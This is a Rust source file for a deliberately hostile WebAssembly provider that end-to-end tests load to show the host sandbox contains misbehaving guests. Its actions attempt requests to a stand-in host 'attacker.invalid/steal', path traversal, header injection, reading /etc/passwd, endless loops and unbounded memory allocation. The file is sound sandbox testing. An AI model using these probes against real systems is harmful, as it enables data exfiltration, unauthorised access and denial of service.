//! A provider that misbehaves on purpose. The e2e tests load it in the real
//! host to prove the host, not the guest's good manners, keeps secrets and
//! origins safe and stops runaway code. Each action is one kind of attack.

wit_bindgen::generate!({
    path: "../../wit",
    world: "provider",
});

use exports::terapi::provider::{action, auth, proxy, sync, webhook};
use terapi::provider::http;
use terapi::provider::types::{HttpError, HttpRequest, Method, ProviderError};

struct Hostile;

fn get(path: &str, headers: Vec<(String, String)>) -> Result<String, ProviderError> {
    let request =
        HttpRequest { method: Method::Get, path: path.into(), query: vec![], headers, body: None, idempotent: true };
    match http::send(&request) {
        Ok(response) => Ok(format!("{{\"status\":{},\"bodyBytes\":{}}}", response.status, response.body.len())),
        Err(e) => Err(ProviderError::Http(e)),
    }
}

impl action::Guest for Hostile {
    fn list_actions() -> Vec<action::ActionInfo> {
        [
            "absolute-url",
            "scheme-relative-url",
            "dot-dot-path",
            "set-authorization",
            "spin",
            "allocate",
            "panic",
            "log-then-trap",
            "fetch",
        ]
        .into_iter()
        .map(|name| action::ActionInfo {
            name: name.into(),
            description: String::new(),
            input_schema: "{}".into(),
            output_schema: "{}".into(),
            read_only: false,
            scopes: Vec::new(),
        })
        .collect()
    }

    fn run(name: String, input: String) -> Result<String, ProviderError> {
        match name.as_str() {
            "absolute-url" => get("https://attacker.invalid/steal", vec![]),
            "scheme-relative-url" => get("//attacker.invalid/steal", vec![]),
            "dot-dot-path" => get("/v2/../../admin", vec![]),
            "set-authorization" => get("/v2/users", vec![("Authorization".into(), "Basic Zm9vOmJhcg==".into())]),
            // Fetches whatever path the input names, to read what the host hands back.
            "fetch" => get(&input, vec![]),
            "spin" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "allocate" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            // Says its input back, as a guest echoing what it was sent would.
            "panic" => panic!("the hostile guest panics on purpose: {input}"),
            // How a guest without std dies: its last words go through `log`
            // (saying its input back), then it traps.
            "log-then-trap" => {
                terapi::provider::log::log(
                    terapi::provider::log::Level::Error,
                    &format!("the hostile guest traps on purpose: {input}"),
                );
                #[cfg(target_arch = "wasm32")]
                core::arch::wasm32::unreachable();
                #[cfg(not(target_arch = "wasm32"))]
                unreachable!("a native build of the hostile guest is never run");
            }
            // What the sandbox lets a guest see of the host.
            "probe-wasi" => Ok(format!(
                "{{\"env\":{},\"args\":{},\"etc_passwd\":{},\"cwd_listing\":{},\"tcp\":{}}}",
                std::env::vars().count(),
                std::env::args().count(),
                std::fs::read("/etc/passwd").is_ok(),
                std::fs::read_dir(".").is_ok(),
                std::net::TcpStream::connect("127.0.0.1:1").is_ok() as u8
            )),
            _ => Err(ProviderError::Unknown(name)),
        }
    }
}

impl auth::Guest for Hostile {
    fn describe() -> auth::Requirements {
        auth::Requirements { basic: None, oauth2_scopes: vec![], oauth2_base_scopes: vec![] }
    }
    fn verify() -> Result<auth::Verification, ProviderError> {
        Err(ProviderError::Http(HttpError::Refused("hostile guest cannot verify".into())))
    }
    /// Tries to send from an export that may not; reports what the host did.
    fn check_config(_config: Vec<(String, String)>) -> Result<(), ProviderError> {
        get("/hostile/send-from-check-config", vec![]).map(drop)
    }
}

impl sync::Guest for Hostile {
    fn list_syncs() -> Vec<sync::SyncInfo> {
        vec![sync::SyncInfo {
            name: "same-cursor".into(),
            model: "Loop".into(),
            description: "returns the same checkpoint forever".into(),
            frequency_secs: 60,
            record_schema: "{}".into(),
            incremental: false,
            scopes: Vec::new(),
        }]
    }
    fn run_page(_request: sync::PageRequest) -> Result<sync::SyncPage, ProviderError> {
        Ok(sync::SyncPage {
            records: vec![sync::SyncRecord { id: "1".into(), modified_at: None, json: "{\"id\":\"1\"}".into() }],
            next_checkpoint: Some("{\"cursor\":\"again\"}".into()),
            done: false,
            total_records: None,
        })
    }
}

/// Exports the contract says make no HTTP request try to, and report what
/// the host answered.
impl proxy::Guest for Hostile {
    fn prepare(request: HttpRequest) -> Result<HttpRequest, ProviderError> {
        if request.path == "/hostile/send-from-prepare" {
            get("/v2/users", vec![])?;
        }
        Ok(request)
    }
}

impl webhook::Guest for Hostile {
    fn handle(_payload: Vec<u8>) -> Result<webhook::WebhookRecords, ProviderError> {
        let answer = get("/v2/users", vec![])?;
        Err(ProviderError::BadResponse(format!("the host let webhook.handle send: {answer}")))
    }
}

#[cfg(target_arch = "wasm32")]
export!(Hostile);
